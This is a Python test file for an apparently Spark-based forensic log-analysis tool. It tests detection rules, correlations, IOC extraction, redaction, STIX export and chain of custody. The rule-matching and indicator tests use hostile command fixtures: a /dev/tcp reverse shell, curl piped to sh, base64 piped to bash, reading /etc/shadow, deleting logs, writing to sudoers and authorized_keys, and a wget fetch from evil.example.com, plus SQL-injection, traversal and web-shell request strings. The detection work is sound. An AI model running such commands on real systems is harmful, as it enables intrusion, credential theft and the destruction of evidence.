"""Rules of the package, correlations of correlations, findings and their texts, indicators of events, redaction and exports."""

import hashlib
import hmac
import json
import random
import re
import uuid
from datetime import UTC, datetime

import pytest
from pyspark.sql import functions as F

from tracegrain.functions import addresses, times
from tracegrain.operators import analytics, correlate, detect, exports, findings, iocs, redact, rules, timeline

EVENT = "id long, micros long, event_type string, artifact_type string, actor string, src_ip string, dst_ip string, target string, command string, host string, raw string, tags array<string>, extra map<string,string>, hour_local int"
NAMES = [f.split()[0] for f in EVENT.split(", ")]


def frame(spark, *rows):
    return spark.createDataFrame([tuple(r.get(n) for n in NAMES) for r in ({"id": i, "micros": i * 1_000_000, "hour_local": 12, "tags": [], "extra": {}} | r for i, r in enumerate(rows, 1))], EVENT)


def test_bundled_rules_match_what_they_are_for(spark):
    rule_set = rules.RuleSet.bundled()
    assert len(rule_set.rules) == 31 and len(rule_set.correlations) == 3 and not rule_set.warnings
    cases = [
        ({"event_type": "user.create", "target": "x"}, {"account_created"}), ({"event_type": "group.modify", "tags": ["group:sudo"]}, {"privileged_group_member"}), ({"command": "echo x >> /etc/sudoers"}, {"sudoers_changed"}),
        ({"event_type": "password.change", "actor": "a", "target": "b"}, {"password_set_by_other"}), ({"event_type": "password.change", "actor": "a", "target": "A"}, set()), ({"event_type": "user.create", "target": "x", "tags": ["uid:0"]}, {"account_created", "second_root"}),
        ({"event_type": "auth.login.success", "tags": ["ssh"], "actor": "root", "hour_local": 23}, {"ssh_login", "ssh_root_login", "ssh_off_hours"}), ({"event_type": "cron.entry", "command": "curl http://x | sh"}, {"cron_changed", "cron_suspicious", "download_to_shell"}),
        ({"artifact_type": "linux.audit", "extra": {"name": "/etc/systemd/system/x.service"}}, {"unit_file_written"}), ({"event_type": "ssh.key.present"}, {"authorized_key_present"}), ({"command": "echo k >> ~/.ssh/authorized_keys"}, {"authorized_keys_written"}),
        ({"command": "echo x >> ~/.bashrc"}, {"shell_startup_changed"}), ({"command": "/tmp/x"}, {"temporary_folder_exec"}), ({"event_type": "kernel.message", "tags": ["kernel", "taint"]}, {"foreign_module"}),
        ({"event_type": "web.request", "target": "/?id=1'%20or%201=1"}, {"web_sql_injection"}), ({"event_type": "web.request", "target": "/?f=../../etc/passwd"}, {"web_traversal"}), ({"event_type": "web.request", "target": "/?q=;id"}, {"web_command"}),
        ({"event_type": "web.request", "target": "/c99.php"}, {"web_shell"}), ({"event_type": "web.request", "target": "/", "extra": {"user_agent": "sqlmap/1.0"}}, {"web_scanner"}), ({"event_type": "web.request", "target": "/", "extra": {"bytes": "2000000", "status": "200"}}, {"web_large_answer"}),
        ({"command": "bash -i >& /dev/tcp/1.2.3.4/9"}, {"reverse_shell"}), ({"command": "echo eA== | base64 -d | bash"}, {"decoded_to_shell"}), ({"command": "history -c"}, {"history_cleared"}), ({"command": "rm -rf /var/log/auth.log"}, {"log_removed"}),
        ({"command": "touch -t 202001010000 x"}, {"time_changed"}), ({"command": "systemctl stop rsyslog"}, {"logging_disabled"}), ({"command": "cat /etc/shadow"}, {"credentials_read"}), ({"command": "ls -l", "raw": "ls"}, set()),
    ]
    got = {}
    for r in rules.matches(frame(spark, *(c for c, _ in cases)), rule_set.rules).select("id", "rule_key").collect():
        got.setdefault(r.id, set()).add(r.rule_key)
    assert [got.get(i, set()) for i in range(1, len(cases) + 1)] == [names for _, names in cases]


def sigma(name, **more):
    return {"title": name, "id": str(uuid.uuid5(uuid.NAMESPACE_URL, name)), "name": name, "level": "high", "recommendation": "r", **more}


def test_rule_sets_refuse_what_does_not_hold_together():
    import yaml

    base = sigma("a", detection={"s": {"id": 1}, "condition": "s"}, tags=["attack.t1078", "attack.t99", "attack.persistence"])
    corr = lambda n, *of, **c: sigma(n, correlation={"type": "event_count", "rules": list(of), "group-by": ["actor"], "timespan": "5m", "condition": {"gte": 2}} | c)
    load = lambda *docs: rules.RuleSet.load(yaml.safe_dump_all(docs))
    good = load(corr("c", "b"), corr("b", base["id"]), base)
    assert [c.name for c in good.correlations] == ["b", "c"] and good.rules[0].techniques == ("T1078",) and good.rules[0].level == "high" and len(good.warnings) == 1 and len(good.rules[0].source_sha256) == 64
    for docs in ([base, base], [corr("b", "none")], [corr("b", "c"), corr("c", "b")], [base | {"id": "x"}], [base | {"level": "odd"}], [{**base, "recommendation": ""}], [base | {"confidence": 2}], [base | {"detection": {"s": {"id|near": 1}, "condition": "s"}}],
                 [corr("b", "a", timespan="soon"), base], [corr("b", "a", type="sum"), base], [corr("b", "a", condition={}), base], [corr("b", "a", type="value_count"), base]):
        with pytest.raises(ValueError):
            load(*docs)


def test_conditions(spark):
    df = spark.createDataFrame([(a, b, c) for a in (True, False) for b in (True, False) for c in (True, False)], "a boolean, b boolean, c boolean")
    parts = {x: F.col(x) for x in "abc"}
    for text in ("a or b and c", "not a or b", "not (a or b)", "a and not b and not c", "(a or b) and (b or c)", "not not a", "a and (b or (c and not a))"):
        got = df.select("a", "b", "c", rules.condition(text, parts).alias("r")).collect()
        assert all(r.r == eval(text, {x: r[x] for x in "abc"}) for r in got), text


def plain_count(rows, key, span, value=None):
    """Largest number of distinct values (or events) in a trailing window, by cluster."""
    out, own = [], sorted((r for r in rows if r[1] == key), key=lambda r: r[0])
    clusters = []
    for r in own:
        if clusters and r[0] - clusters[-1][-1][0] <= span:
            clusters[-1].append(r)
        else:
            clusters.append([r])
    for c in clusters:
        peak = max(len({value(x) if value else x[:4] for x in c if 0 <= r[0] - x[0] <= span and (value is None or value(x) is not None)}) for r in c)
        out.append((key, c[0][0], c[-1][0], peak))
    return out


def test_counts_equal_a_loop_over_buckets(spark, monkeypatch):
    rng = random.Random(3)
    rows = [(rng.randrange(4000), f"a{rng.randrange(4)}", rng.choice(["1", "2", "3", "4", None]), rng.choice("xy"), i) for i in range(1500)]
    df = spark.createDataFrame([(i, m, a, s, e, "r") for m, a, s, e, i in rows], "id long, micros long, actor string, src_ip string, event_type string, rule_key string")
    for buckets in (1, 3, 64):
        monkeypatch.setattr(correlate, "BUCKETS", buckets)
        for span in (5, 9):
            got = {(r.actor, r.first_micros, r.last_micros, r.peak) for r in correlate.event_count(df, ["actor"], span, 0).collect()}
            assert got == {x for a in range(4) for x in plain_count([r[:4] for r in rows], f"a{a}", span)}
            got = {(r.actor, r.first_micros, r.last_micros, r.peak) for r in correlate.value_count(df, ["actor"], "src_ip", span, 0).collect()}
            assert got == {x for a in range(4) for x in plain_count(rows, f"a{a}", span, lambda r: r[2])}
    found = correlate.value_count(df, ["actor"], "src_ip", 9, 4)
    assert correlate.distinct_values(df, found, ["actor"], "src_ip", 9).count() > 0


def chain_events(spark):
    rows = [{"event_type": "auth.login.failure", "actor": "eve", "src_ip": "9.9.9.9", "host": "h1", "micros": i * 60_000_000} for i in range(5)]
    rows += [{"event_type": "user.create", "actor": "eve", "target": "bad", "host": "h2", "micros": 600_000_000}, {"event_type": "user.create", "actor": "ann", "target": "ok", "micros": None}]
    return frame(spark, *rows).withColumns({"rel_path": F.lit("auth.log"), "sha256": F.lit("ab"), "line_number": F.col("id").cast("int")})


CHAIN = rules.RuleSet([
    rules.Rule("failed", "Failed", {"s": {"event_type": "auth.login.failure"}, "condition": "s"}, "low", generate=False, id="r1"), rules.Rule("created", "New account", {"s": {"event_type": "user.create"}, "condition": "s"}, "medium", 0.5, ("T1136.001",), ("actor",), "Ask.", id="r2", description="An account.", false_positives=("Admins",)),
    rules.Correlation("often", "Many failed", "high", 0.6, ("T1110",), ("actor",), "Block.", id="r3", kind="event_count", rules=("failed",), timespan="5m", test=("gte", 3)), rules.Correlation("then", "Account after", "critical", 0.7, ("T1078",), ("actor",), "Isolate.", id="r4", kind="temporal_ordered", rules=("r3", "created"), timespan="1h"),
])


def test_correlations_chain_and_become_findings(spark):
    hits = detect.hits(chain_events(spark), CHAIN).persist()
    got = {(r.rule_key, r.actor, r.n_events, r.src_ip, r.host, r.micros) for r in hits.where("rule_key in ('often', 'then')").collect()}
    assert got == {("often", "eve", 5, "9.9.9.9", "h1", 240_000_000), ("then", "eve", 2, "9.9.9.9", None, 600_000_000)}
    often = CHAIN.by_name["often"]
    assert {r.event_id for r in detect.members(chain_events(spark), hits, often, CHAIN.names(often), CHAIN).collect()} == {1, 2, 3, 4, 5}
    drafts = {(r.rule_id, r.title): r for r in findings.from_hits(hits, CHAIN).collect()}
    assert set(drafts) == {("created", "New account — by eve on h2"), ("created", "New account — by ann"), ("often", "Many failed — by eve on h1"), ("then", "Account after — by eve")}
    one = drafts["created", "New account — by eve on h2"]
    assert one.narrative == "An account.\n\nRule 'New account' matched 1 event(s) at 1970-01-01T00:10:00+00:00 by eve on h2. Evidence: auth.log:6.\n\nKnown false positives: Admins."
    assert one.fingerprint == hashlib.sha256("\x1f".join(["r2", "actor=eve", "ab:6"]).encode()).hexdigest() and json.loads(one.context)["entity"] == {"actor": "eve", "host": "h2"}
    assert "(undated evidence)" in drafts["created", "New account — by ann"].narrative and "matched 5 event(s) between" in drafts["often", "Many failed — by eve on h1"].narrative
    assert rules.tested(chain_events(spark), CHAIN, "often").count() == 1
    hits.unpersist()


def test_findings_keep_what_was_said_of_them(spark):
    columns = "fingerprint string, n_events long, severity string, status string, note string"
    stored = spark.createDataFrame([("a", 1, "low", "open", None), ("b", 2, "low", "accepted", "seen"), ("c", 3, "high", "rejected", "no")], columns)
    got = {r.fingerprint: r for r in findings.upsert(stored, spark.createDataFrame([("b", 6, "high"), ("e", 1, "low")], "fingerprint string, n_events long, severity string")).collect()}
    assert {k: (r.n_events, r.severity, r.status, r.note, r.change) for k, r in got.items()} == {"b": (6, "high", "accepted", "seen", "updated"), "c": (3, "high", "rejected", "no", "stale"), "e": (1, "low", "open", None, "new")}
    df = spark.createDataFrame([("a", "low", 1, "open", "ai_proposed", None), ("b", "high", 3, "open", "rule", 5), ("c", "high", 3, "open", "rule", 4)], "fingerprint string, severity string, severity_rank int, status string, verified_by string, first_micros long")
    out = findings.reviewed(df, "a", "accepted", "ok")
    assert [(r.status, r.verified_by, r.note) for r in out.where("fingerprint = 'a'").collect()] == [("accepted", "analyst", "ok")]
    assert [r.fingerprint for r in findings.listed(out, least="medium").collect()] == ["c", "b"] and findings.listed(out, status="accepted", verified_by="analyst").count() == 1
    with pytest.raises(ValueError):
        findings.reviewed(df, "a", "perhaps")
    rows = spark.createDataFrame([("a", "x", 2, ["T1110"]), ("b", "x", 4, ["T1021.004", "T1595.002"]), ("c", "y", 0, ["T0000"])], "fingerprint string, recommendation string, severity_rank int, techniques array<string>")
    assert [(r.phase, r.recommendation, r.severity_rank, r.findings) for r in findings.recommendations(rows).collect()] == [("immediate", "x", 4, ["a", "b"]), ("long_term", "y", 0, ["c"])]


def test_indicators_of_events(spark):
    df = frame(
        spark, {"src_ip": "8.8.8.8:22", "dst_ip": "127.0.0.1", "raw": "from 10.0.0.5 see ftp://Files.Example.org/a, and http://1.2.3.4/x", "extra": {"x_forwarded_for": "9.9.9.9, 2001:DB8::1", "referer": "https://intra.corp/x"}},
        {"command": f"wget evil.example.com/a.sh -O /tmp/.x/a; echo {'a' * 32} {'b' * 32} {'c' * 64} backup.tar.gz host.home.arpa"}, {"event_type": "user.create", "target": "eve"}, {"event_type": "group.modify", "target": "bob", "tags": ["group:wheel"]},
        {"event_type": "group.modify", "target": "bob", "tags": ["group:users"], "raw": "1.2.3.4.5 and 1.2.3.1234 and 999.1.1.1"},
    )
    got = {}
    for r in iocs.extract_events(df, "files.example.org").collect():
        got.setdefault((r.type, r.value), set()).add(r.tag)
    assert got == {
        ("ipv4", "8.8.8.8"): {"src_ip"}, ("ipv4", "10.0.0.5"): {"text", "private"}, ("ipv4", "9.9.9.9"): {"x_forwarded_for"}, ("ipv6", "2001:db8::1"): {"x_forwarded_for", "private"}, ("ipv4", "1.2.3.4"): {"text"},
        ("url", "ftp://Files.Example.org/a,".rstrip(",")): {"url"}, ("url", "http://1.2.3.4/x"): {"url"}, ("url", "https://intra.corp/x"): {"url"}, ("domain", "files.example.org"): {"url_host", "internal"}, ("domain", "intra.corp"): {"url_host", "internal"},
        ("domain", "evil.example.com"): {"command"}, ("path", "/tmp/.x/a"): {"tmp_path"}, ("md5", "a" * 32): {"command"}, ("md5", "b" * 32): {"command"}, ("sha256", "c" * 64): {"command"}, ("username", "eve"): {"user_created"}, ("username", "bob"): {"added_to_privileged_group"},
    }
    table = iocs.table(iocs.extract_events(df), df, spark.createDataFrame([("f1", 2)], "finding_id string, event_id long"))
    assert {(r.value, tuple(r.finding_ids)) for r in table.where("finding_ids is not null").collect()} == {(v, ("f1",)) for v in ("evil.example.com", "/tmp/.x/a", "a" * 32, "b" * 32, "c" * 64)}
    assert iocs.event_links(iocs.extract_events(df), 1).groupBy("type", "value").count().where("count > 1").isEmpty()


def test_indicators_are_searched_for_once(spark, capsys):
    df = frame(spark, {"src_ip": "10.0.0.5", "raw": "see http://a.example.com"}, {"src_ip": "10.0.0.5", "raw": "10.0.0.5"}, {"src_ip": "8.8.8.8"}, {"id": 3, "src_ip": "8.8.8.8", "micros": 9}, {"id": None, "src_ip": "9.9.9.9"})
    table = iocs.table(iocs.extract_events(df), df, spark.createDataFrame([("f1", 2), ("f2", 2), ("f2", 1), ("f3", 3)], "finding_id string, event_id long"))
    table.explain()
    plan = capsys.readouterr().out
    assert plan.count("Generate") <= 2 and plan.count("regexp_extract_all") == 5
    got = {(r.type, r.value): (r.first_micros, r.last_micros, r.event_count, r.tags, r.finding_ids) for r in table.collect()}
    assert got == {
        ("ipv4", "10.0.0.5"): (1_000_000, 2_000_000, 2, ["private", "src_ip", "text"], ["f1", "f2"]), ("ipv4", "8.8.8.8"): (9, 3_000_000, 1, ["src_ip"], ["f3"]), ("ipv4", "9.9.9.9"): (5_000_000, 5_000_000, 0, ["src_ip"], None),
        ("url", "http://a.example.com"): (1_000_000, 1_000_000, 1, ["url"], ["f2"]), ("domain", "a.example.com"): (1_000_000, 1_000_000, 1, ["url_host"], ["f2"]),
    }
    plain = {(r.type, r.value): (r.event_count, r.finding_ids) for r in iocs.table(iocs.extract_events(df).drop("micros"), df.where("id is not null and micros > 9")).collect()}
    assert plain["ipv4", "10.0.0.5"] == (2, None) and plain["ipv4", "8.8.8.8"] == (1, None)


def test_addresses_are_known_by_their_form(spark):
    parts = ["0", "9", "10", "99", "100", "199", "200", "249", "250", "255", "256", "299", "1000", "00", "01", "007", "", "a", "-1", "+1", "1\n"]
    texts = ["1." * i + p + ".1" * (3 - i) for p in parts for i in range(4)] + ["1.2.3", "1.2.3.4.5", "1.2.3.4.", ".1.2.3.4", "", None]
    df = spark.createDataFrame([(t,) for t in texts], "t string")
    wrong = df.where(~F.coalesce(F.col("t").rlike(addresses.IPV4), F.lit(False)).eqNullSafe(addresses.ipv4_number(F.col("t")).isNotNull()))
    assert wrong.collect() == []


def test_answers_of_providers_and_their_cache(spark):
    df = spark.createDataFrame([('{"data":{"abuseConfidenceScore":80,"totalReports":9}}',), ('{"data":{"abuseConfidenceScore":30}}',), ('{"data":{"abuseConfidenceScore":1,"totalReports":1}}',), ("{}",), ("broken",)], "b string")
    assert [r.v for r in df.select(iocs.abuse_verdict(F.col("b")).alias("v")).collect()] == ["malicious", "suspicious", "clean", "unknown", "unknown"]
    stats = lambda **k: json.dumps({"data": {"attributes": {"last_analysis_stats": k}}})
    df = spark.createDataFrame([(stats(malicious=3),), (stats(malicious=1),), (stats(suspicious=2),), (stats(harmless=5),), (stats(),)], "b string")
    assert [r.v for r in df.select(iocs.scan_verdict(F.col("b")).alias("v")).collect()] == ["malicious", "suspicious", "suspicious", "clean", "unknown"]
    at = lambda h: datetime(2024, 1, 2, h, tzinfo=UTC)
    cache = spark.createDataFrame([("p", "ipv4", "1.1.1.1", at(1), 200, "old"), ("p", "ipv4", "1.1.1.1", at(5), 200, "new"), ("p", "ipv4", "2.2.2.2", at(5), 500, "x")], "provider string, type string, value string, asked_at timestamp, status int, body string")
    wanted = spark.createDataFrame([("p", "ipv4", "1.1.1.1"), ("p", "ipv4", "2.2.2.2")], "provider string, type string, value string")
    hit, rest = iocs.fresh(cache, wanted, F.lit(at(6)))
    assert [r.body for r in hit.collect()] == ["new"] and [r.value for r in rest.collect()] == ["2.2.2.2"] and iocs.fresh(cache, wanted, F.lit(datetime(2024, 1, 9, tzinfo=UTC)))[0].isEmpty()


def test_redaction_and_back(spark):
    key = bytes(range(50))
    df = frame(spark, {"actor": "ann.b", "host": "web01", "src_ip": "10.0.0.5", "raw": "ann.b on web01 from 10.0.0.5 to 8.8.8.8, not web011 or joann.b; mail x@y.example in /home/carl/x at db.corp", "event_type": "x"}, {"actor": "root", "raw": None})
    values = redact.sensitive(df)
    assert {(r.category, r.value) for r in values.collect()} == {("user", "ann.b"), ("host", "web01"), ("ip", "10.0.0.5"), ("email", "x@y.example"), ("user", "carl"), ("domain", "db.corp")}
    table = redact.mapping(values, key)
    names = {r.value: r.pseudonym for r in table.collect()}
    tag = lambda c, v: hmac.new(key, f"{c}:{v}".encode(), "sha256").hexdigest()[:6]
    assert names == {"ann.b": f"user-{tag('user', 'ann.b')}", "web01": f"host-{tag('host', 'web01')}", "10.0.0.5": f"PRIVATE-IP-{tag('ip', '10.0.0.5')}", "x@y.example": f"email-{tag('email', 'x@y.example')}@redacted.invalid", "carl": f"user-{tag('user', 'carl')}", "db.corp": f"domain-{tag('domain', 'db.corp')}.redacted.invalid"}
    out = redact.redact(df.select("id", "raw"), "id", "raw", table)
    text = {r.id: r.raw for r in out.collect()}
    assert text[2] is None and text[1] == f"{names['ann.b']} on {names['web01']} from {names['10.0.0.5']} to 8.8.8.8, not web011 or joann.b; mail {names['x@y.example']} in /home/{names['carl']}/x at {names['db.corp']}"
    assert {r.raw for r in redact.restore(out, "id", "raw", table).collect()} == {r.raw for r in df.collect()}


def plain_redaction(text, names, key=None, whole=True):
    """By one expression of all names, the longest first."""
    names = dict(names)
    for mail in set(re.findall(redact.EMAIL, text)) if key else ():
        if not mail.endswith("redacted.invalid"):
            names.setdefault(mail, f"email-{hmac.new(key, f'email:{mail}'.encode(), 'sha256').hexdigest()[:6]}@redacted.invalid")
    either = "|".join(map(re.escape, sorted(names, key=len, reverse=True)))
    return re.sub(rf"(?<![\w.@-])({either})(?![\w@-]|\.\w)" if whole else either, lambda m: names[m[0]], text) if names else text


@pytest.mark.parametrize("most", [None, 40])
def test_redaction_against_one_expression(spark, most):
    """In one automaton, and in one of many slices: first characters that many values share, values with blanks, values that begin others, all kinds of marks."""
    rng, key = random.Random(3), b"k" * 70
    names = ["10.0.0.1", "alice", "alice.b", "db.corp", "host1", "host10", "John Smith", "John", "alice@10.0.0.1", "a-b", "é é", "-x", "10.0.0.1:22", "ab", "abc", "abcd", "abcdefgh", "abcdefghi", "abcdefgh-ij"]
    names += [f"user-{i:04}" for i in range(60)]
    marks = [" ", ":", ".", ",", "(", ")", "/", "@", "-", "_", "\n", "x", "é", "1", "", "'", "=", "mail a.b+c@d.example "]
    texts = ["from 10.0.0.1:5022", "user:alice", "host1:22", "http://db.corp:80/x", "by John Smith here", "alice:", "(alice)", "/home/alice/", "alice@10.0.0.1", "10.0.0.1", None, "", "alice."]
    texts += ["".join(rng.choice(names) + rng.choice(marks) if rng.random() < 0.6 else rng.choice(marks) for _ in range(rng.randint(1, 25))) for _ in range(800)]
    table = {n: f"N{i}" for i, n in enumerate(names)}
    df = spark.createDataFrame([(i, t, 7) for i, t in enumerate(texts)], "id long, line string, slice int")
    pairs = spark.createDataFrame(list(table.items()), "value string, pseudonym string")
    for k in (None, key):
        got = {r.id: r.line for r in redact.redact(df, "id", "line", pairs, k, most).collect()}
        assert got == {i: None if t is None else plain_redaction(t, table, k) for i, t in enumerate(texts)}
    back = redact.restore(redact.redact(df, "id", "line", pairs, None, most), "id", "line", pairs, most)
    assert back.columns == df.columns and back.count() == len(texts)
    restored = {v: n for n, v in table.items()}
    assert {r.id: r.line for r in back.collect()} == {i: None if t is None else plain_redaction(plain_redaction(t, table), restored, whole=False) for i, t in enumerate(texts)}


def test_exports(spark, tmp_path):
    names = spark.createDataFrame([("a",), ("é|x",)], "n string").select("n", exports.uuid5(exports.NAMESPACE, F.col("n")).alias("u")).collect()
    assert all(r.u == str(uuid.uuid5(uuid.UUID(exports.NAMESPACE), r.n)) for r in names)
    df = frame(spark, {"event_type": "x", "raw": "r" * 500, "micros": 1_500_000}, {"event_type": "y", "micros": None}, {"event_type": "z", "micros": 5})
    lines = [json.loads(r.value) for r in exports.events_json(df).collect()]
    assert [x["id"] for x in lines] == [3, 1, 2] and lines[1]["timestamp_utc"] == "1970-01-01T00:00:01.500000+00:00" and list(lines[1]) == sorted(lines[1])
    assert {len(json.loads(r.json).get("raw", "")) for r in timeline.compact(df).collect()} == {400, 0} and timeline.total(df, timeline.TimelineQuery(types=["x"], limit=1)) == 1
    table = spark.createDataFrame([("ipv4", "1.2.3.4", 0, 9_000_000, "malicious", None), ("path", "/tmp/a'b", None, None, "unknown", ["f"]), ("md5", "aa", 0, 0, "clean", None)], "type string, value string, first_micros long, last_micros long, verdict string, finding_ids array<string>")
    found = spark.createDataFrame([(["T1110"],)], "techniques array<string>")
    bundle = {r.id: json.loads(r.json) for r in exports.stix_bundle(table, found, "case", "2024-01-01T00:00:00Z").collect()}
    kinds = sorted(x["type"] for x in bundle.values())
    assert kinds == ["attack-pattern", "indicator", "indicator", "report"] and {x["pattern"] for x in bundle.values() if x["type"] == "indicator"} == {"[ipv4-addr:value = '1.2.3.4']", "[file:name = 'a\\'b']"}
    assert next(x for x in bundle.values() if x["type"] == "report")["object_refs"] == sorted(k for k, x in bundle.items() if x["type"] != "report")
    stored = spark.createDataFrame([("f", "open", 1, None), ("g", "rejected", 2, None)], "fingerprint string, status string, severity_rank int, first_micros long")
    assert [json.loads(r.value)["event_ids"] for r in exports.findings_json(stored, spark.createDataFrame([("f", 2), ("f", 1)], "fingerprint string, event_id long")).collect()] == [[1, 2]]
    scanned = spark.createDataFrame([("b", "file", 1, "s", "m", None, None), ("a", "symlink", 1, None, None, "t", None)], "rel_path string, kind string, size long, sha256 string, md5 string, symlink_target string, note string")
    assert exports.write_manifest(scanned, f"{tmp_path}/m") == hashlib.sha256(open(f"{tmp_path}/m", "rb").read()).hexdigest() and json.loads(open(f"{tmp_path}/m").readline())["rel_path"] == "a"


def test_restarts_gaps_and_keys(spark):
    hour = 3_600_000_000
    rows = [{"event_type": "service.stop", "target": "rsyslogd", "host": h, "micros": m} for h, m in (("a", 0), ("b", 0), (None, 5 * hour), ("a", 9 * hour), (None, 20 * hour))]
    rows += [{"event_type": "system.boot", "host": h, "micros": m} for h, m in (("a", 60_000_000), ("c", 5 * hour), (None, 9 * hour + 900_000_000))]
    assert {r.id for r in analytics.logging_restarts(frame(spark, *rows)).collect()} == {2, 5}
    log = [{"artifact_type": "linux.auth", "micros": i * 60_000_000 + (8 * 24 * hour if i >= 30 else 0), "host": "f"} for i in range(60)] + [{"artifact_type": "shell.bash_history", "host": "g", "micros": i * hour * 30} for i in range(30)]
    got = analytics.log_gaps(frame(spark, *log), "host").collect()
    assert [(r.host, r.id, r.gap, r.median_gap) for r in got] == [("f", 31, 8 * 24 * hour + 60_000_000, 60_000_000.0)]
    keys = [{"event_type": "ssh.key.present", "tags": ["key:A"]}, {"event_type": "auth.login.success", "tags": ["ssh", "key:A"], "actor": "x"}, {"event_type": "auth.login.success", "tags": ["key:B"], "actor": "x", "src_ip": "1.1.1.1"}]
    assert [(r.actor, r.key, r.n_logins, r.src_ips) for r in analytics.unknown_ssh_keys(frame(spark, *keys)).collect()] == [("x", "B", 1, ["1.1.1.1"])] and analytics.unknown_ssh_keys(frame(spark, *keys[1:])).isEmpty()


def test_addresses_and_times(spark):
    import ipaddress

    values = ["1.2.3.4", "1.2.3.4:80", "[::1]:22", "2001:DB8:0:0:1:0:0:1", "::", "fe80::1", "1.2.3", "01.2.3.4", "256.1.1.1", "a:b", "1::2::3", "0:0:1:0:0:0:1:1", "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7::", "", None]
    for r in spark.createDataFrame([(v,) for v in values], "v string").select("v", addresses.canonical_ip(F.col("v")).alias("c")).collect():
        v = r.v or ""
        v = v[1:].split("]")[0] if v.startswith("[") else v.split(":")[0] if v.count(":") == 1 else v
        try:
            assert r.c == str(ipaddress.ip_address(v))
        except ValueError:
            assert r.c is None
    for m in (0, 1, 1_700_000_000_123_456, -1, -86_400_000_001):
        text = spark.range(1).select(times.iso(F.lit(m).cast("long")).alias("t")).first().t
        assert times.literal_micros(text) == m
    assert times.literal_micros("2024-01-01T02:00:00+02:00") == times.literal_micros("2024-01-01 00:00:00") == 1_704_067_200_000_000
    with pytest.raises(ValueError):
        times.literal_micros("yesterday")


def test_custody(spark, tmp_path):
    from tracegrain.sources import custody

    (tmp_path / "e").mkdir()
    (tmp_path / "e/x").write_text("x")
    now = datetime(2024, 1, 1)
    item, files, record = custody.add(spark, str(tmp_path / "e"), "ann", now)
    files = spark.createDataFrame(files.collect(), files.schema)
    assert (item.first().n_files, record.first().action) == (1, "acquired") and custody.counts(items=item) == {"items": 1}
    out, record = custody.verified(spark, item.first().item_id, str(tmp_path / "e"), files, "ann", now)
    assert record.first().action == "verified" and [r.outcome for r in out.collect()] == ["ok"]
    (tmp_path / "e/x").write_text("y")
    assert custody.verified(spark, "i", str(tmp_path / "e"), files, "ann", now)[1].first().action == "verification_failed"
    for again in ({"items": item}, {"case_dir": str(tmp_path)}):
        with pytest.raises(ValueError):
            custody.add(spark, str(tmp_path / "e"), "ann", now, **again)
    with pytest.raises(ValueError):
        custody.add(spark, str(tmp_path / "none"), "ann", now)


def test_trees_of_hashes_find_what_differs(spark):
    from tracegrain.sources import merkle

    rows = [(i, f"text {i}") for i in range(3000)] + [(7, "text 7"), (None, "no key"), (5000, None)]
    df = spark.createDataFrame(rows, "id long, raw string")
    one = merkle.tree(df, "id", ["id", "raw"], leaf=50)
    assert merkle.differing(one, merkle.tree(df.repartition(7).orderBy("raw"), "id", ["id", "raw"], leaf=50)).count() == 0
    nodes = {r.node: (r.digest, r.n_rows) for r in one.collect()}
    assert nodes[""][1] == len(rows) and max(map(len, nodes)) == 2
    sha = lambda t: hashlib.sha256(t.encode()).hexdigest()
    said = lambda v: "-1:" if v is None else f"{len(str(v))}:{v}"
    leaves = {}
    for i, t in rows:
        k = sha("" if i is None else str(i))
        leaves.setdefault(k[:2], []).append((k, sha(said(i) + said(t))))
    assert all(nodes[n][0] == sha("".join(h for _, h in sorted(v))) for n, v in leaves.items())
    changed = spark.createDataFrame([(i, "other" if i == 40 else t) for i, t in rows if i != 41] + [(9000, "new")], "id long, raw string")
    apart = merkle.differing(one, merkle.tree(changed, "id", ["id", "raw"], digits=2))
    assert {r.node for r in apart.collect()} == {sha(str(i))[:2] for i in (40, 41, 9000)}
    assert {40, 9000} <= {r.id for r in merkle.rows_of(changed, "id", apart).collect()}
    assert merkle.tree(df.where("1 = 0"), "id", ["id", "raw"]).where("node = ''").first().n_rows == 0


def test_analytics_give_findings(spark):
    """The texts, and the events of drafts, of all five analytics."""
    from tracegrain.operators import analytic_drafts

    H, at = 3_600_000_000, 1_700_000_000_000_000
    login = {"event_type": "auth.login.success", "artifact_type": "linux.auth", "actor": "ann"}
    rows = [{**login, "micros": at + i * H // 60, "src_ip": "45.33.32.10", "tags": ["key:k1"] if i % 2 else ["key:k2"]} for i in range(30)]
    rows += [{**login, "micros": at + 12 * H, "src_ip": "45.55.10.20"}, {"event_type": "ssh.key.present", "artifact_type": "ssh.authorized_keys", "tags": ["key:k1"]}]
    rows += [{"event_type": "service.stop", "artifact_type": "linux.syslog", "target": "rsyslogd", "host": "h", "micros": at + 5 * H, "raw": "r"}, {"event_type": "system.boot", "artifact_type": "linux.kernel", "host": "other", "micros": at + 5 * H}]
    rows += [{"event_type": "auth.login.success", "artifact_type": "utmp.wtmp", "micros": at + 50 * H}]
    ev = frame(spark, *rows).withColumn("path", F.col("artifact_type"))
    files = spark.createDataFrame([("utmp.wtmp", "utmp.wtmp", "aa"), ("linux.auth", "linux.auth", None)], "path string, artifact_type string, sha256 string")
    got = {r.rule_id: r for r in analytic_drafts.drafts(ev, files).collect()}
    assert set(got) == {a.rule_id for a in analytic_drafts.ALL}
    gap, cut, rare, restart, key = (got[a.rule_id] for a in analytic_drafts.ALL)
    assert gap.title.endswith("linux.auth silent for 11.5 h") and gap.event_ids == [30, 31] and "usually follows another in 60 seconds" in gap.narrative and json.loads(gap.context)["gap_seconds"] == 41460
    assert cut.title.endswith("utmp.wtmp") and cut.n_events == 2 and "2 days after logins" in cut.narrative and cut.severity == "high"
    assert rare.event_ids == [31] and "Of 32 logins" not in rare.narrative and "all but one came from 1 other addresses" in rare.narrative
    assert restart.title.endswith("rsyslogd stopped at 2023-11-15T03:13:20+00:00") and restart.event_ids == [33]
    assert key.n_events == 15 and json.loads(key.context)["fingerprint"] == "k2" and analytic_drafts.key_links(ev).count() == 15
    assert key.fingerprint == hashlib.sha256("\x1f".join((key.rule_id, "ann", "k2")).encode()).hexdigest()


def test_many_rules_match_as_few_do(spark, monkeypatch):
    """One pass for the texts that rules need, then their groups; against all rules in one scan."""
    rng = random.Random(6)
    words = ["passwd", "shadow", "curl http", "Sekret", "nmap", "x*y", "wget?http", "admin", "ab", "été", "a\\\\*b", "K", "ſudo"]
    fields = ["raw", "command", "actor", "tags", "status", "event_type"]
    made = []
    for i in range(60):
        test = lambda: {rng.choice(fields) + rng.choice(["", "|contains", "|startswith", "|endswith", "|contains|all"]): [rng.choice(words) for _ in range(rng.randint(1, 2))]}
